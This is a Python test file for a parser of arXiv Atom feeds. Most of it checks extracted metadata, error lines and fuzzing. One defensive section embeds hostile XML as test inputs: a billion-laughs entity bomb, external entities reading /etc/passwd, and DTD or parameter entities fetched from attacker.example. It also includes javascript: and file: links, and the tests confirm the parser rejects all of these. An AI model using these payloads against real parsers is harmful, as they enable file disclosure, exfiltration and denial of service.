from __future__ import annotations

from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from readerapp.core.errors import ParseError
from readerapp.formats import arxiv_atom
from readerapp.formats.registry import detect_format
from readerapp.formats.text_input import read_path
from tests.conftest import CORPUS, DATA, SEED

NEW = CORPUS / "arxiv-atom" / "sotawhat_arxiv_transformer_csLG_5.xml"
OLD = DATA / "arxiv_atom_old.xml"
FEED_START = '<?xml version="1.0" encoding="UTF-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n'


def new_text() -> str:
    return NEW.read_text(encoding="utf-8")


def old_text() -> str:
    return OLD.read_text(encoding="utf-8")


def test_new_serialisation_corpus_file() -> None:
    result = arxiv_atom.parse(new_text(), NEW.name)
    assert result.skipped == []
    assert [(r.arxiv_id, r.line) for r in result.records] == [
        ("2606.13677", 10),
        ("2606.13591", 37),
        ("2606.13568", 57),
        ("2606.13515", 72),
        ("2606.13501", 106),
    ]
    mana = result.records[0]
    assert mana.title == "Mana: Dexterous Manipulation of Articulated Tools"
    assert mana.authors == ("Zhao-Heng Yin", "Guanya Shi", "Pieter Abbeel", "C. Karen Liu")
    assert (mana.date, mana.year) == ("2026-06-11", 2026)
    assert mana.links.abs == "https://arxiv.org/abs/2606.13677v1"
    assert mana.links.pdf == "https://arxiv.org/pdf/2606.13677v1"
    assert mana.links.project == "https://zhaohengyin.github.io/mana"  # from arxiv:comment
    assert mana.suggested_tags == ("cs.RO", "cs.AI", "cs.CV", "cs.LG")  # primary first
    assert "(<1 minute per tool)" in mana.abstract  # &lt; decoded
    assert mana.doi is None and mana.venue is None
    cup = result.records[2]
    assert cup.authors == ("Snigdha Chandan Khilar",)
    assert cup.suggested_tags == ("cs.LG", "math-ph")


def test_latex_kept_and_paragraphs_unwrapped() -> None:
    gf_dit = arxiv_atom.parse(new_text(), NEW.name).records[-1]
    paragraphs = gf_dit.abstract.split("\n\n")
    assert len(paragraphs) == 3
    assert paragraphs[1].startswith("This paper argues that DiT serving")
    assert "up to 6.01$\\times$," in paragraphs[2]
    assert "approximately 60 $μ$s." in paragraphs[2]
    assert all("\n" not in p and "  " not in p for p in paragraphs)


def test_old_serialisation_sample() -> None:
    result = arxiv_atom.parse(old_text(), OLD.name)
    assert result.skipped == []
    assert [(r.arxiv_id, r.line) for r in result.records] == [
        ("0704.0001", 10),
        ("hep-th/9711200", 52),
        ("1706.03762", 81),
        ("2106.09685", 128),
    ]
    diphoton, maldacena, attention, lora = result.records
    # A title wrapped over two lines by the old API comes back as one line.
    assert diphoton.title == (
        "Calculation of prompt diphoton production cross sections at Tevatron and LHC energies"
    )
    assert diphoton.authors == ("C. Balázs", "E. L. Berger", "P. M. Nadolsky", "C. -P. Yuan")
    assert diphoton.doi == "10.1103/physrevd.76.013009"
    assert diphoton.venue == "Phys.Rev.D76:013009,2007"
    assert (diphoton.date, diphoton.year) == ("2007-04-02", 2007)
    assert diphoton.links.abs == "http://arxiv.org/abs/0704.0001v2"
    assert diphoton.links.pdf == "http://arxiv.org/pdf/0704.0001v2"
    assert diphoton.abstract.startswith("A fully differential calculation in perturbative")
    assert "\n" not in diphoton.abstract
    assert maldacena.doi == "10.1023/a:1026654312961"
    assert maldacena.venue == "Adv.Theor.Math.Phys.2:231-252,1998"
    assert "large $N$ limit" in maldacena.abstract
    assert "$AdS_5\\times S^5$" in maldacena.abstract
    assert maldacena.links.pdf == "http://arxiv.org/pdf/hep-th/9711200v3"
    assert attention.authors[0] == "Ashish Vaswani" and len(attention.authors) == 8
    assert attention.suggested_tags == ("cs.CL", "cs.LG")
    assert lora.links.code == "https://github.com/microsoft/LoRA"  # trailing "." dropped
    assert lora.abstract.split("\n\n")[1].startswith("We release a package")


def test_prefixed_atom_namespace_and_crlf_bom() -> None:
    text = (
        "\ufeff<?xml version='1.0' encoding='ISO-8859-1'?>\r\n"
        '<a:feed xmlns:a="http://www.w3.org/2005/Atom" '
        'xmlns:x="http://arxiv.org/schemas/atom">\r\n'
        "  <a:entry>\r\n    <a:id>http://arxiv.org/abs/2106.09685v1</a:id>\r\n"
        "    <a:title>Café {LoRA}:\r\n   Wrapped</a:title>\r\n"
        "    <x:doi>10.48550/arXiv.2106.09685</x:doi>\r\n"
        "    <a:author><a:name>Hu, Edward J.</a:name><x:affiliation>MS</x:affiliation>"
        "</a:author>\r\n  </a:entry>\r\n</a:feed>\r\n"
    )
    [record] = arxiv_atom.parse(text, "prefixed.atom").records
    assert record.title == "Café LoRA: Wrapped"
    assert record.authors == ("Edward J. Hu",)
    assert record.doi == "10.48550/arxiv.2106.09685"
    assert record.line == 3


def test_feed_with_no_entries_says_why() -> None:
    empty = (
        FEED_START + "  <opensearch:totalResults xmlns:opensearch="
        '"http://a9.com/-/spec/opensearch/1.1/">0</opensearch:totalResults>\n</feed>\n'
    )
    result = arxiv_atom.parse(empty, "empty.xml")
    assert result.records == []
    assert [(s.line, s.reason) for s in result.skipped] == [(None, "the feed has no entries")]
    past_end = empty.replace(">0<", ">28946<")
    assert "28946" in arxiv_atom.parse(past_end, "p.xml").skipped[0].reason


def test_api_error_entry_and_unusable_entries_are_skipped() -> None:
    text = (
        FEED_START
        + "  <entry>\n    <id>http://arxiv.org/api/errors#incorrect_id_format_for_1234</id>\n"
        "    <title>Error</title>\n"
        "    <summary>incorrect id format for 1234</summary>\n  </entry>\n"
        "  <entry>\n    <title>   </title>\n  </entry>\n"
        "  <entry>\n    <id>http://arxiv.org/abs/2106.09685v2</id>\n  </entry>\n"
        "</feed>\n"
    )
    result = arxiv_atom.parse(text, "err.xml")
    assert [(s.line, s.reason) for s in result.skipped] == [
        (3, "the arXiv API answered with an error: incorrect id format for 1234"),
        (8, "an entry with no arXiv id and no title"),
    ]
    assert [(r.title, r.line) for r in result.records] == [("arXiv:2106.09685", 11)]


def test_unsafe_links_are_dropped() -> None:
    text = (
        FEED_START + "<entry><id>http://arxiv.org/abs/2106.09685</id><title>T</title>"
        '<link rel="alternate" href="javascript:alert(1)"/>'
        '<link title="pdf" href="file:///etc/passwd"/></entry></feed>'
    )
    [record] = arxiv_atom.parse(text, "x.xml").records
    assert record.links.abs is None and record.links.pdf is None


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE feed [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<feed xmlns="http://www.w3.org/2005/Atom">
  <entry><id>http://arxiv.org/abs/2106.09685</id><title>&lol3;</title></entry>
</feed>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE feed [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<feed xmlns="http://www.w3.org/2005/Atom">
  <entry><id>http://arxiv.org/abs/2106.09685</id><title>T</title>
  <summary>&xxe;</summary></entry>
</feed>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE feed SYSTEM "http://attacker.example/evil.dtd">
<feed xmlns="http://www.w3.org/2005/Atom"/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE feed [ <!ENTITY % remote SYSTEM "http://attacker.example/x"> %remote; ]>
<feed xmlns="http://www.w3.org/2005/Atom"/>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_hostile_xml_is_refused_without_expanding_anything(text: str) -> None:
    with pytest.raises(ParseError) as caught:
        arxiv_atom.parse(text, "hostile.xml")
    assert caught.value.source == "hostile.xml"
    assert caught.value.line == 2  # the DOCTYPE line
    assert "DOCTYPE" in caught.value.why and "safety" in caught.value.why
    message = str(caught.value)
    assert message.startswith("hostile.xml:2: ")
    assert "lollol" not in message and "root:" not in message


def test_undeclared_entity_is_an_error_not_an_empty_field() -> None:
    text = FEED_START + "<entry>\n<title>&xxe;</title></entry></feed>"
    with pytest.raises(ParseError) as caught:
        arxiv_atom.parse(text, "x.xml")
    assert caught.value.line == 4 and "undefined entity" in caught.value.why


def test_truncated_xml_reports_the_parser_line() -> None:
    text = new_text()
    cut = text[: text.index("<summary>Many important")]
    with pytest.raises(ParseError) as caught:
        arxiv_atom.parse(cut, NEW.name)
    assert caught.value.line == cut.count("\n") + 1
    assert "ends too early" in caught.value.why
    assert str(caught.value).startswith(f"{NEW.name}:{caught.value.line}: ")
    mid_tag = text[: text.index("category term") + 5]
    with pytest.raises(ParseError) as caught:
        arxiv_atom.parse(mid_tag, NEW.name)
    assert caught.value.line == mid_tag.count("\n") + 1


@pytest.mark.parametrize(
    ("text", "line", "why"),
    [
        (FEED_START + "<entry>\n<title>x</titel>\n</entry></feed>", 4, "mismatched tag"),
        ('<?xml version="1.0"?>\n<rss version="2.0"><channel/></rss>', 1, "not an Atom feed"),
        ("", 1, "empty"),
        ("   \n", 1, "empty"),
        ("not xml at all", 1, "not well-formed"),
        (FEED_START + "<x:doi>1</x:doi></feed>", 3, "unbound prefix"),
        (FEED_START + "</feed>\n<?xml version='1.0'?>", 4, "not well-formed"),
    ],
)
def test_unreadable_xml_names_file_and_line(text: str, line: int, why: str) -> None:
    with pytest.raises(ParseError) as caught:
        arxiv_atom.parse(text, "feed.xml")
    assert (caught.value.source, caught.value.line) == ("feed.xml", line)
    assert why in caught.value.why


def test_detect_format_and_sniffs() -> None:
    for path in (NEW, OLD):
        assert detect_format(read_path(path), str(path)).name == "arxiv-atom"
    assert detect_format(read_path(SEED), str(SEED)).name != "arxiv-atom"
    others = [
        *(CORPUS / "csl-json").iterdir(),
        *(CORPUS / "hf-json").iterdir(),
        *(CORPUS / "scholarly-api-json").iterdir(),
        *(CORPUS / "ris").iterdir(),
        SEED,
    ]
    for path in others:
        assert arxiv_atom.sniff(read_path(path)[:16384]) == 0.0, path.name
    assert arxiv_atom.sniff('<rss version="2.0"><channel></channel></rss>') == 0.0


# --- fuzzing: only ParseError or a result may come out -------------------------------------

NAMES = [
    "feed",
    "entry",
    "id",
    "title",
    "summary",
    "published",
    "updated",
    "author",
    "name",
    "link",
    "category",
    "primary_category",
    "doi",
    "journal_ref",
    "comment",
    "totalResults",
    "div",
]
ATTRS = st.dictionaries(
    st.sampled_from(["href", "rel", "title", "type", "term"]),
    st.text(max_size=20)
    | st.sampled_from(["pdf", "alternate", "http://[::1", "https://github.com/a/b"]),
    max_size=3,
)


@st.composite
def elements(draw: st.DrawFn, depth: int = 0) -> str:
    name = draw(st.sampled_from(NAMES))
    attrs = "".join(f" {k}={quoteattr(v)}" for k, v in draw(ATTRS).items())
    text = escape(
        draw(
            st.text(max_size=20)
            | st.sampled_from(["2106.09685v1", "2021-06-17", "http://arxiv.org/abs/2106.09685"])
        )
    )
    children = draw(st.lists(elements(depth + 1), max_size=3)) if depth < 2 else []
    return f"<{name}{attrs}>{text}{''.join(children)}</{name}>"


def _parse_or_parse_error(text: str) -> None:
    try:
        result = arxiv_atom.parse(text, "fuzz.xml")
    except ParseError as exc:
        assert exc.source == "fuzz.xml"
        return
    for record in result.records:
        assert record.title.strip()


@settings(max_examples=150, deadline=None)
@given(st.lists(elements(), max_size=4))
def test_fuzz_xml_shapes(children: list[str]) -> None:
    _parse_or_parse_error(f'<feed xmlns="http://www.w3.org/2005/Atom">{"".join(children)}</feed>')


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_fuzz_random_text(text: str) -> None:
    _parse_or_parse_error(text)
    _parse_or_parse_error(FEED_START + text)


@settings(max_examples=150, deadline=None)
@given(st.integers(0, 12000), st.integers(0, 40), st.text(max_size=8))
def test_fuzz_mutated_files(start: int, length: int, insert: str) -> None:
    for source in (new_text(), old_text()):
        _parse_or_parse_error(source[:start] + insert + source[start + length :])


def test_lone_surrogate_is_a_parse_error_with_its_line() -> None:
    text = FEED_START + "<entry>\n<title>bad \ud800 text</title></entry></feed>"
    with pytest.raises(ParseError) as caught:
        arxiv_atom.parse(text, "x.xml")
    assert caught.value.line == 4
